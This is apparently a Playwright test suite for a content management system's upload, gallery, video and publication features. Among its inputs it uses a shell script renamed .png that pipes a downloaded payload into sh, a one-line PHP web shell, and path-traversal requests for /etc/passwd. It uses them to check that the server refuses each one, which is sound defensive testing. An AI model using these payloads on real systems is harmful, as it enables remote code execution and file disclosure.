// Uploads, media items and publications in the editorial area, told as an editor's day: photos uploaded
// and resized, a gallery built and reordered, a PDF published — and what readers then get.
import { expect, test, type Browser, type Page } from "@playwright/test";
import { PDFDocument, StandardFonts } from "pdf-lib";
import sharp from "sharp";
import { slugify } from "../app/domain/slug";
import { signIn } from "./admin-fixtures";
import { headerValues, text } from "./fixtures";

// The editor's interface speaks Persian (demo account)
const lang = "fa";
const mediaText = (key: string) => text(lang, "admin-media", key);
const adminText = (key: string) => text(lang, "admin", key);
const yearLong = "public, max-age=31536000, immutable";

/** A real PNG of one colour, made here */
function png(width: number, height: number, background: string): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background } }).png().toBuffer();
}

async function pdf(title: string): Promise<Buffer> {
  const document = await PDFDocument.create();
  const page = document.addPage([420, 595]);
  page.drawText(title, { x: 40, y: 540, size: 18, font: await document.embedFont(StandardFonts.Helvetica) });
  return Buffer.from(await document.save());
}

/** A short unique suffix, so reruns against one server never collide */
const runId = () => `${Date.now() % 1_000_000}${Math.floor(Math.random() * 100)}`;

/** A reader's page in a browser of its own: nothing cached from an earlier visit */
async function readerPage(browser: Browser, baseURL: string | undefined, path: string): Promise<Page> {
  const context = await browser.newContext({ baseURL });
  const page = await context.newPage();
  const response = await page.goto(path);
  expect(response?.status(), path).toBe(200);
  return page;
}

async function uploadInLibrary(page: Page, file: { name: string; mimeType: string; buffer: Buffer }) {
  await page.goto("/admin/uploads");
  await page.getByLabel(mediaText("uploads.file"), { exact: true }).setInputFiles(file);
  await page.getByRole("button", { name: mediaText("uploads.submit") }).click();
}

test.describe("uploads, media and publications in the editorial area", () => {
  test("an editor uploads a PNG and gets resized WebP copies, typed and cacheable for a year", async ({ page }) => {
    await signIn(page, "editor");
    const name = `harbour-${runId()}.png`;
    await uploadInLibrary(page, { name, mimeType: "image/png", buffer: await png(2000, 1200, "#1d6fa5") });
    await expect(page).toHaveURL(/\/admin\/uploads\?uploaded=\d+$/);
    await expect(page.getByRole("status")).toContainText(name);

    const entry = page.locator("li[data-upload-id]").filter({ hasText: name });
    const largest = await entry.getByRole("link", { name }).getAttribute("href");
    expect(largest).toMatch(/^\/uploads\/img\/\d{4}\/\d{2}\/[0-9a-f]{24}-1600\.webp$/);
    for (const width of [480, 960, 1600]) {
      const response = await page.request.get(largest!.replace("-1600.webp", `-${width}.webp`));
      expect(response.status()).toBe(200);
      expect(response.headers()["content-type"]).toBe("image/webp");
      expect(response.headers()["cache-control"]).toBe(yearLong);
      expect(headerValues(response, "X-Content-Type-Options")).toEqual(["nosniff"]);
      expect(headerValues(response, "Content-Security-Policy")).toEqual([expect.stringMatching(/(^|;)sandbox(;|$)/)]);
      const copy = await sharp(await response.body()).metadata();
      expect([copy.format, copy.width, copy.height]).toEqual(["webp", width, (width * 1200) / 2000]);
    }
    // Only the stored widths exist
    expect((await page.request.get(largest!.replace("-1600.webp", "-1200.webp"))).status()).toBe(404);
  });

  test("no address of /uploads/ reaches outside the stored files", async ({ request }) => {
    for (const path of ["/uploads/..%2f..%2fetc%2fpasswd", "/uploads/img/..%2f..%2f..%2fetc%2fpasswd", "/uploads/%2e%2e/%2e%2e/package.json", "/uploads/img/2026/01/x.png"]) {
      const response = await request.get(path);
      expect([400, 404], path).toContain(response.status());
      expect(await response.text(), path).not.toContain("root:");
    }
  });

  test("a script renamed .png is refused with a localized message, and nothing is stored", async ({ page }) => {
    await signIn(page, "editor");
    const name = `photo-${runId()}.png`;
    await uploadInLibrary(page, { name, mimeType: "image/png", buffer: Buffer.from("#!/bin/sh\ncurl https://example.org/payload | sh\n") });
    // The error summary has the focus and leads to the file field, which carries the message too
    const summary = page.getByRole("alert");
    await expect(summary).toBeFocused();
    await expect(summary.getByRole("link")).toHaveText(`${mediaText("uploads.file")}: ${mediaText("upload.problems.type")}`);
    await expect(page.getByLabel(mediaText("uploads.file"), { exact: true })).toHaveAttribute("aria-invalid", "true");
    await expect(page.locator("#upload-file-errors")).toHaveText(mediaText("upload.problems.type"));
    await expect(page).toHaveTitle(/^\(/);
    // Not in the library (the newest come first)
    await page.goto("/admin/uploads");
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(mediaText("uploads.title"));
    await expect(page.locator("li[data-upload-id]").filter({ hasText: name })).toHaveCount(0);

    // The same without JavaScript: a plain form post answers 400
    const csrf = await page.locator("input[name=csrf]").first().inputValue();
    const response = await page.request.post("/admin/uploads", {
      multipart: { csrf, file: { name, mimeType: "image/png", buffer: Buffer.from("<?php system($_GET['c']); ?>") } },
      maxRedirects: 0,
    });
    expect(response.status()).toBe(400);
    expect(await response.text()).toContain(mediaText("upload.problems.type"));
  });

  test("an image over the limit is refused with 413, and so is any body larger than a form may be", async ({ page }) => {
    await signIn(page, "editor");
    await page.goto("/admin/uploads");
    const csrf = await page.locator("input[name=csrf]").first().inputValue();
    // A PNG signature and 11 MB of padding: an image by its content, over the 10 MB limit
    const header = await png(8, 8, "#000");
    const oversized = Buffer.concat([header, Buffer.alloc(11_000_000)]);
    const response = await page.request.post("/admin/uploads", {
      multipart: { csrf, file: { name: "huge.png", mimeType: "image/png", buffer: oversized } },
      maxRedirects: 0,
    });
    expect(response.status()).toBe(413);
    const [before] = mediaText("upload.problems.imageTooLarge").split("{{limit}}");
    expect(await response.text()).toContain(before!.trim());

    const tooLong = await page.request.post("/admin/uploads", {
      multipart: { csrf, file: { name: "bigger.pdf", mimeType: "application/pdf", buffer: Buffer.alloc(27_000_000) } },
      maxRedirects: 0,
    });
    expect(tooLong.status()).toBe(413);
  });

  test("a gallery built from uploads shows its photos to readers with srcset, in the order the editor sets", async ({ page, browser, baseURL }) => {
    // Three uploads, each resized three times, then the reader's pages: 20-26 s on a busy machine
    test.setTimeout(90_000);
    await signIn(page, "editor");
    const run = runId();
    const title = `Lanterns on the harbour wall ${run}`;
    await page.goto("/admin/media");
    await page.getByLabel(adminText("fields.edition"), { exact: true }).first().selectOption("en");
    await page.getByLabel(mediaText("kind"), { exact: true }).first().selectOption("photos");
    await page.getByRole("button", { name: mediaText("media.new") }).click();
    await expect(page).toHaveURL(/\/admin\/media\/new\?edition=en&kind=photos$/);
    const titleField = page.getByLabel(adminText("fields.title"), { exact: true });
    await expect(titleField).toHaveAttribute("dir", "ltr");
    await titleField.fill(title);
    await page.getByLabel(mediaText("media.fields.description"), { exact: true }).fill("Evening light along the old harbour.");
    await page.getByLabel(adminText("status.published"), { exact: true }).check();
    await page.getByRole("button", { name: adminText("actions.save") }).click();
    await expect(page).toHaveURL(/\/admin\/media\/\d+\?flash=saved$/);
    await expect(page.getByLabel(adminText("fields.slug"), { exact: true })).toHaveValue(slugify(title));
    const editorUrl = page.url().replace(/\?.*$/, "");

    const addForm = page.getByRole("form", { name: mediaText("images.addTitle") });
    const photos = [
      { alt: `Red lantern ${run}`, colour: "#c0392b" },
      { alt: `Blue lantern ${run}`, colour: "#2e5aa8" },
    ];
    for (const photo of photos) {
      await addForm.getByLabel(mediaText("picker.newFile"), { exact: true }).setInputFiles({ name: `${photo.alt}.png`, mimeType: "image/png", buffer: await png(1200, 800, photo.colour) });
      await addForm.getByLabel(mediaText("images.alt"), { exact: true }).fill(photo.alt);
      await addForm.getByLabel(mediaText("images.caption"), { exact: true }).fill(`Caption of ${photo.alt}`);
      await addForm.getByRole("button", { name: mediaText("images.add") }).click();
      await expect(page.locator("li[data-image-id]").last().getByLabel(mediaText("images.alt"), { exact: true })).toHaveValue(photo.alt);
    }
    // The alt text is required
    await expect(addForm.getByLabel(mediaText("images.alt"), { exact: true })).toHaveValue("");
    await addForm.getByRole("radio").first().check();
    await addForm.getByRole("button", { name: mediaText("images.add") }).click();
    await expect(addForm.getByText(adminText("errors.required"), { exact: true })).toBeVisible();
    await expect(page.locator("li[data-image-id]")).toHaveCount(2);

    const galleryPath = `/en/media/photos/${encodeURIComponent(slugify(title))}`;
    const reader = await readerPage(browser, baseURL, galleryPath);
    const thumbnails = reader.locator("#photos a[data-gallery-thumbnail] img");
    await expect(thumbnails).toHaveCount(2);
    expect(await thumbnails.evaluateAll((images) => images.map((image) => image.getAttribute("alt")))).toEqual(photos.map((photo) => photo.alt));
    const first = thumbnails.first();
    await expect(first).toHaveAttribute("src", /\/uploads\/img\/.+-1200\.webp$/);
    await expect(first).toHaveAttribute("srcset", /-480\.webp 480w, .+-960\.webp 960w, .+-1200\.webp 1200w$/);
    await expect(first).toHaveAttribute("sizes", /.+/);
    await expect(first).toHaveAttribute("width", "1200");
    await expect(first).toHaveAttribute("height", "800");
    await expect(first).toHaveAttribute("loading", "lazy");
    // The browser picked one of the copies and got a picture
    await first.scrollIntoViewIfNeeded();
    expect(await first.evaluate((image: HTMLImageElement) => image.decode().then(() => image.naturalWidth))).toBeGreaterThan(0);
    await reader.context().close();

    // The red lantern moves after the blue one
    await page.goto(editorUrl);
    await page.locator("li[data-image-id]").first().getByRole("button", { name: mediaText("images.moveDown") }).click();
    await expect(page.locator("li[data-image-id]").first().getByLabel(mediaText("images.alt"), { exact: true })).toHaveValue(photos[1]!.alt);
    const reordered = await readerPage(browser, baseURL, galleryPath);
    expect(await reordered.locator("#photos a[data-gallery-thumbnail] img").evaluateAll((images) => images.map((image) => image.getAttribute("alt")))).toEqual([
      photos[1]!.alt,
      photos[0]!.alt,
    ]);
    await reordered.context().close();

    // Without JavaScript the buttons are plain form posts: the red lantern moves back up
    const noScript = await browser.newContext({ baseURL, javaScriptEnabled: false });
    const plain = await noScript.newPage();
    await signIn(plain, "editor");
    await plain.goto(editorUrl);
    await plain.locator("li[data-image-id]").nth(1).getByRole("button", { name: mediaText("images.moveUp") }).click();
    await expect(plain).toHaveURL(/\?flash=saved#images$/);
    await expect(plain.locator("li[data-image-id]").first().getByLabel(mediaText("images.alt"), { exact: true })).toHaveValue(photos[0]!.alt);
    await noScript.close();
    const restored = await readerPage(browser, baseURL, galleryPath);
    expect(await restored.locator("#photos a[data-gallery-thumbnail] img").evaluateAll((images) => images.map((image) => image.getAttribute("alt")))).toEqual(
      photos.map((photo) => photo.alt),
    );
    await restored.context().close();

    // A new address for the published gallery: the old one answers with a 301 to it
    const renamed = `${slugify(title)}-renamed`;
    await page.goto(editorUrl);
    const slugField = page.getByLabel(adminText("fields.slug"), { exact: true });
    await slugField.fill(renamed);
    await slugField.press("Enter");
    await expect(page).toHaveURL(/\/admin\/media\/\d+\?flash=saved$/);
    await expect(slugField).toHaveValue(renamed);
    const moved = await page.request.get(galleryPath, { maxRedirects: 0 });
    expect(moved.status()).toBe(301);
    expect(moved.headers().location).toBe(`/en/media/photos/${encodeURIComponent(renamed)}`);
    expect((await page.request.get(`/en/media/videos/${encodeURIComponent(slugify(title))}`, { maxRedirects: 0 })).status()).toBe(404);
  });

  test("a video only takes an https address of an allowed player", async ({ page }) => {
    await signIn(page, "editor");
    await page.goto("/admin/media/new?edition=fa&kind=videos");
    await page.getByLabel(adminText("fields.title"), { exact: true }).fill(`ویدیوی آزمایشی ${runId()}`);
    await page.getByLabel(mediaText("media.fields.videoEmbedUrl"), { exact: true }).fill("http://videos.example.org/embed/123");
    await page.getByRole("button", { name: adminText("actions.save") }).click();
    await expect(page.getByText(mediaText("media.notes.videoHost"))).toBeVisible();
    await page.getByLabel(mediaText("media.fields.videoEmbedUrl"), { exact: true }).fill("https://www.youtube.com/watch?v=M7lc1UVf-VE");
    await page.getByLabel(mediaText("media.fields.videoDuration"), { exact: true }).fill("۳:۲۵");
    await page.getByRole("button", { name: adminText("actions.save") }).click();
    await expect(page).toHaveURL(/\/admin\/media\/\d+\?flash=saved$/);
    await expect(page.getByLabel(mediaText("media.fields.videoEmbedUrl"), { exact: true })).toHaveValue("https://www.youtube-nocookie.com/embed/M7lc1UVf-VE");
    await expect(page.getByLabel(mediaText("media.fields.videoDuration"), { exact: true })).toHaveValue("3:25");

    page.once("dialog", (dialog) => dialog.accept());
    await page.getByRole("button", { name: adminText("actions.delete") }).click();
    await expect(page).toHaveURL(/\/admin\/media\?flash=deleted$/);
    await expect(page.getByRole("status")).toHaveText(adminText("flash.deleted"));
  });

  test("a publication created with an uploaded PDF can be downloaded from its reader page", async ({ page, browser, baseURL }) => {
    await signIn(page, "editor");
    const run = runId();
    const title = `Annual report on detention ${run}`;
    await page.goto("/admin/publications/new?edition=en&kind=books");
    await page.getByLabel(adminText("fields.title"), { exact: true }).fill(title);
    await page.getByLabel(mediaText("publications.fields.editionYear"), { exact: true }).fill("2026");
    const pdfPicker = page.getByRole("group", { name: mediaText("publications.fields.pdf") });
    await pdfPicker.getByLabel(mediaText("picker.newFile"), { exact: true }).setInputFiles({ name: `Annual report ${run}.pdf`, mimeType: "application/pdf", buffer: await pdf(title) });
    const coverPicker = page.getByRole("group", { name: mediaText("publications.fields.cover") });
    await coverPicker.getByLabel(mediaText("picker.newFile"), { exact: true }).setInputFiles({ name: "cover.png", mimeType: "image/png", buffer: await png(900, 1200, "#7a3e9d") });
    await page.getByLabel(mediaText("publications.fields.coverAlt"), { exact: true }).fill("A purple cover");
    await page.getByLabel(adminText("status.published"), { exact: true }).check();
    await page.getByRole("button", { name: adminText("actions.save") }).click();
    await expect(page).toHaveURL(/\/admin\/publications\/\d+\?flash=saved$/);

    const reader = await readerPage(browser, baseURL, `/en/publications/books/${encodeURIComponent(slugify(title))}`);
    await expect(reader.getByRole("heading", { level: 1 })).toHaveText(title);
    const cover = reader.locator("img[alt='A purple cover']");
    await expect(cover).toHaveAttribute("srcset", /-480\.webp 480w, .+-900\.webp 900w$/);
    const download = reader.locator("a[download]");
    const href = await download.getAttribute("href");
    expect(href).toMatch(/^\/uploads\/pdf\/\d{4}\/\d{2}\/[0-9a-f]{24}\.pdf$/);
    const file = await reader.request.get(href!);
    expect(file.status()).toBe(200);
    expect(file.headers()["content-type"]).toBe("application/pdf");
    expect(file.headers()["cache-control"]).toBe(yearLong);
    expect(file.headers()["content-disposition"]).toBe(`inline; filename="Annual report ${run}.pdf"; filename*=UTF-8''Annual%20report%20${run}.pdf`);
    expect(headerValues(file, "Content-Security-Policy")).toEqual([expect.stringMatching(/(^|;)sandbox(;|$)/)]);
    expect(headerValues(file, "X-Content-Type-Options")).toEqual(["nosniff"]);
    expect((await file.body()).subarray(0, 5).toString()).toBe("%PDF-");
    await reader.context().close();

    // A new address for the published publication: the old one answers with a 301 to it
    const renamed = `annual-report-${run}`;
    const slugField = page.getByLabel(adminText("fields.slug"), { exact: true });
    await slugField.fill(renamed);
    await slugField.press("Enter");
    await expect(page).toHaveURL(/\/admin\/publications\/\d+\?flash=saved$/);
    await expect(slugField).toHaveValue(renamed);
    const moved = await page.request.get(`/en/publications/books/${encodeURIComponent(slugify(title))}`, { maxRedirects: 0 });
    expect(moved.status()).toBe(301);
    expect(moved.headers().location).toBe(`/en/publications/books/${renamed}`);
    expect((await page.request.get(`/en/publications/books/${renamed}`)).status()).toBe(200);
  });

  test("a translator may upload but not edit media items or publications", async ({ page }) => {
    await signIn(page, "translator");
    expect((await page.goto("/admin/uploads"))?.status()).toBe(200);
    expect((await page.goto("/admin/media"))?.status()).toBe(403);
    expect((await page.goto("/admin/publications/new?edition=sq&kind=books"))?.status()).toBe(403);
  });
});
